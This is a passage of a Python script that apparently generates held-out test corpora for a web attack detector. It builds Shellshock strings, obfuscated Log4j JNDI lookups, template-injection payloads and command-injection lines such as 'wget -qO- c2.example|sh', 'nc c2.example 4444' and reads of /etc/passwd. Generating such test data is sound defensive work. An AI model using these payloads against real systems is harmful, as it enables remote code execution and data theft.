    cmd = R.choice(["echo; /bin/cat /etc/passwd", "/usr/bin/id", "echo vulnerable", "/bin/bash -c 'nc c2.example 4444'",
                    "wget -qO- c2.example|sh", "ping -c 3 10.9.8.7", "/bin/sleep 7", "echo Content-Type: text/plain; echo; id",
                    "curl c2.example/$(whoami)", "export X=1"])
    v = defn + tail + R.choice(["", " "]) + cmd
    r = R.random()
    if r < 0.15:
        v = R.choice(["name=", "x=", "PHPSESSID=", "lang="]) + v
    elif r < 0.25:
        v = R.choice(["Mozilla/5.0 ", "curl/7.1 ", ""]) + '"' + v + '"'
    elif r < 0.33:
        v = "() { _; } >_[$($())] { " + cmd + "; }"
    elif r < 0.4:
        v = "() { (a)=>\\' " + cmd
    elif r < 0.45:
        v = "() { :;}; " + cmd + " #"
    elif r < 0.55:
        v = "".join("%%%02X" % ord(c) if not c.isalnum() else c for c in v)
    return v


def jndi():
    proto = R.choice(["ldap", "ldaps", "rmi", "dns", "iiop", "nis", "nds", "corba", "http"])
    host = R.choice(["c2.example", "10.9.8.7:1389", "x.oast.example", "${hostName}.c2.example",
                     "${env:USER}.c2.example", "${sys:java.version}.c2.example"])
    path = "/" + rs(5)
    j = "jndi"
    r = R.randrange(9)
    if r == 0:
        j = "${lower:j}ndi"
    elif r == 1:
        j = "".join("${::-%s}" % c for c in "jndi")
    elif r == 2:
        j = "j${" + R.choice(["k8s:k5", "env:NaN", "main:x", "sys:nope"]) + ":-n}di"
    elif r == 3:
        j = "${upper:j}${upper:n}${lower:d}${lower:i}"
    elif r == 4:
        j = "${" + R.choice(["env", "sys", "date", "ctx"]) + ":" + rs(4) + ":-j}ndi"
    elif r == 5:
        j = "${date:'j'}${date:'n'}${date:'d'}${date:'i'}"
    elif r == 6:
        j = "j${lower:N}d${upper:i}"
    if R.random() < 0.3:
        proto = "${lower:" + proto[0] + "}" + proto[1:]
    v = "${" + j + ":" + proto + "://" + host + path + "}"
    s = R.random()
    if s < 0.2:
        v = v.replace("${", "$%7B").replace("}", "%7D")
    elif s < 0.3:
        v = "Mozilla/5.0 " + v
    elif s < 0.4:
        v = v.replace("$", "%24").replace("{", "%7B").replace("}", "%7D").replace(":", "%3A")
    return v


def tmpl():
    return R.choice(["", "", "", "Hello ", "name=", "a", "x' ", "\"><"]) + R.choice([
        "{{7*%d}}" % R.randint(7, 99), "{{ %d*%d }}" % (R.randint(2, 99), R.randint(2, 99)),
        "{{config.items()}}", "{{self.__init__.__globals__.__builtins__}}",
        "{{''.__class__.__mro__[1].__subclasses__()}}", "{{request.application.__globals__.__builtins__.__import__('os').popen('id').read()}}",
        "{{cycler.__init__.__globals__.os.popen('id').read()}}", "{{lipsum.__globals__['os'].popen('id').read()}}",
        "{% for x in ().__class__.__base__.__subclasses__() %}{% endfor %}", "{{ joiner.__init__.__globals__.os }}",
        "${T(java.lang.Runtime).getRuntime().exec('id')}", "*{T(java.lang.Runtime).getRuntime().exec('id')}",
        "${\"freemarker.template.utility.Execute\"?new()(\"id\")}", "<#assign ex=\"freemarker.template.utility.Execute\"?new()>${ex(\"id\")}",
        "#set($x='')#set($rt=$x.class.forName('java.lang.Runtime'))", "<%= system('id') %>", "<%%= 7*%d %%>" % R.randint(7, 99),
        "#{%d*%d}" % (R.randint(2, 99), R.randint(2, 99)), "${%d*%d}" % (R.randint(2, 99), R.randint(2, 99)),
        "{php}echo `id`;{/php}", "{system('id')}", "@(System.Diagnostics.Process.Start(\"cmd.exe\"))",
        "[[${T(java.lang.Runtime).getRuntime().exec('id')}]]", "{{constructor.constructor('return process')()}}",
        "#{''.getClass().forName('java.lang.Runtime')}", "${{%d*%d}}" % (R.randint(2, 99), R.randint(2, 99)),
        "{{range.constructor(\"return global.process.mainModule.require('child_process').execSync('id')\")()}}",
    ])


def enc(v):
    """What a URL cannot carry raw, percent-encoded."""
    out = []
    for ch in v:
        o = ord(ch)
        if ch == "\0":
            out.append("+")
        elif ch in "\r\n\t" or o < 32 or ch in "#&+" or o > 126:
            out.append("%%%02X" % o if o < 256 else ch)
        elif ch == " ":
            out.append(R.choice(["+", "%20"]))
        else:
            out.append(ch)
    return "".join(out)


def gen(f, n):
    seen, out = set(), []
    for _ in range(n * 4):
        v = enc(f())
        if v not in seen:
            seen.add(v)
            out.append(v)
        if len(out) >= n:
            break
    return out


def main():
    d = sys.argv[1] if len(sys.argv) > 1 else "tests/data"
    for name, lines in (("gen-heldout-sqli.txt", gen(sql_line, 3000)),
                        ("gen-heldout-cmdi.txt", gen(cmd_line, 1500)),
                        ("gen-heldout-shell.txt", gen(shellshock, 400)),
                        ("gen-heldout-jndi.txt", gen(jndi, 400)),
                        ("gen-heldout-ssti.txt", gen(lambda: tmpl().replace("%", "%25"), 200)),
                        ("gen-heldout-cmdline.txt", gen(cmdline, 300)),
                        ("gen-heldout-b64.txt", gen(b64wrap, 300)),
                        ("gen-heldout-commix.txt", gen(commix, 400))):
        with open(os.path.join(d, name), "w") as f:
            for l in lines:
                assert "\n" not in l and "\r" not in l
                f.write(l + "\n")
        print("%s: %d lines" % (name, len(lines)))


if __name__ == "__main__":
    main()
